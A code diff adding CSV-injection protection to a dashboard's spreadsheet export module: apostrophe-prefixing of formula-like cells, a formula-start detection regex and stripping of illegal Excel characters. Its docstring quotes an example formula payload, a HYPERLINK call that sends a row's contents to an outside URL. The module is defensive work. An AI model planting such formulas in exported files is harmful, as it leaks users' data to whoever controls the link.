@@ -3,11 +3,19 @@
 Every row carries ``run_id`` and ``model_sha256`` (the checksum of the SOP model file the case
 was checked against); the Excel file adds a ``metadata`` sheet with the filters, the runs and
 when the file was made. Pure: DataFrame in, bytes out.
+
+This module is the one place a table becomes a spreadsheet file, and every such file is safe
+to open (OWASP "CSV injection"): a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or
+a carriage return would be read by Excel or LibreOffice as a formula (``=HYPERLINK("http://…/
+?leak="&A2, …)`` sends the row away), so it gets a leading ``'`` (:func:`neutralise`); numeric
+columns are left alone, so a negative number stays a number. Excel cells are written as
+strings, never formulas, and without the control characters Excel files cannot hold.
 """
 
 from __future__ import annotations
 
 import io
+import re
 from datetime import UTC, datetime
 from typing import Any
 
@@ -16,6 +24,51 @@ import pandas as pd
 from dashboard.filters import Filters
 
 EXCEL_MAX_ROWS = 1_048_575  # one header row
+CSV_MIME = "text/csv"
+XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+TABLE_MIMES = frozenset({CSV_MIME, XLSX_MIME, "application/vnd.ms-excel"})
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+SAFE_PREFIX = "'"
+_FORMULA_START_RE = r"^[=+\-@\t\r]"
+# what an .xlsx cannot hold (openpyxl's IllegalCharacterError): C0 controls but tab, LF, CR
+_EXCEL_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def safe_cell(value: Any) -> Any:
+    """One value as a spreadsheet may hold it: text that a spreadsheet would read as a formula
+    gets a leading ``'``, and a carriage return inside text becomes a line feed (a CSV writer
+    that leaves a lone CR unquoted would start a new row, and a formula, with what follows it);
+    anything else (numbers, dates) is returned as it is."""
+    if not isinstance(value, str):
+        return value
+    if value.startswith(FORMULA_START):
+        value = SAFE_PREFIX + value
+    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value
+
+
+def _is_text(series: pd.Series) -> bool:
+    return pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)
+
+
+def neutralise(df: pd.DataFrame) -> pd.DataFrame:
+    """``df`` with every text cell (and column name) that could start a formula prefixed by
+    ``'``. Numeric, boolean and date columns are untouched; idempotent."""
+    out = df.rename(columns=lambda c: safe_cell(c) if isinstance(c, str) else c)
+    changed = {}
+    for position in range(out.shape[1]):
+        series = out.iloc[:, position]
+        if not _is_text(series):
+            continue
+        text = series.map(lambda v: v if isinstance(v, str) else None)
+        risky = text.str.contains(_FORMULA_START_RE, regex=True, na=False) | text.str.contains("\r", na=False)
+        if risky.any():  # the few risky cells one by one; the rest stays as it is
+            changed[position] = series.where(~risky, series[risky].map(safe_cell))
+    if not changed:
+        return out
+    out = out.copy()
+    for position, series in changed.items():
+        out.isetitem(position, series)
+    return out
 
 
 def metadata(df: pd.DataFrame, filters: Filters, db_name: str) -> dict[str, Any]:
@@ -37,22 +90,33 @@ def metadata(df: pd.DataFrame, filters: Filters, db_name: str) -> dict[str, Any]
 
 
 def to_csv(df: pd.DataFrame) -> bytes:
-    """UTF-8 CSV with a byte-order mark (Excel opens it with the right characters)."""
-    return df.to_csv(index=False).encode("utf-8-sig")
+    """UTF-8 CSV with a byte-order mark (Excel opens it with the right characters), every
+    cell safe to open (:func:`neutralise`)."""
+    return neutralise(df).to_csv(index=False).encode("utf-8-sig")
+
+
+def _excel_text(df: pd.DataFrame) -> pd.DataFrame:
+    """Time zones written out (Excel has none) and characters an .xlsx cannot hold removed."""
+    for column in df.columns:
+        if isinstance(df[column].dtype, pd.DatetimeTZDtype):
+            df = df.assign(**{column: df[column].dt.strftime("%Y-%m-%d %H:%M:%S%z")})
+        elif _is_text(df[column]):
+            df = df.assign(**{column: df[column].map(
+                lambda v: _EXCEL_ILLEGAL.sub("", v) if isinstance(v, str) else v)})
+    return df
 
 
 def to_xlsx(df: pd.DataFrame, meta: dict[str, Any], sheet: str = "deviasi") -> bytes:
-    """An Excel workbook: the rows (cut at Excel's limit, noted in the metadata) and metadata."""
+    """An Excel workbook: the rows (cut at Excel's limit, noted in the metadata) and metadata,
+    every text cell a string (never a formula)."""
     out = io.BytesIO()
     meta = dict(meta)
     if len(df) > EXCEL_MAX_ROWS:
         meta["truncated_to_rows"] = EXCEL_MAX_ROWS
         df = df.head(EXCEL_MAX_ROWS)
-    for column in df.columns:
-        if isinstance(df[column].dtype, pd.DatetimeTZDtype):  # Excel has no time zones
-            df = df.assign(**{column: df[column].dt.strftime("%Y-%m-%d %H:%M:%S%z")})
+    rows = neutralise(_excel_text(df))
+    about = neutralise(_excel_text(pd.DataFrame({"key": list(meta), "value": [str(v) for v in meta.values()]})))
     with pd.ExcelWriter(out, engine="openpyxl") as writer:
-        df.to_excel(writer, sheet_name=sheet, index=False)
-        pd.DataFrame({"key": list(meta), "value": [str(v) for v in meta.values()]}).to_excel(
-            writer, sheet_name="metadata", index=False)
+        rows.to_excel(writer, sheet_name=sheet, index=False)
+        about.to_excel(writer, sheet_name="metadata", index=False)
     return out.getvalue()
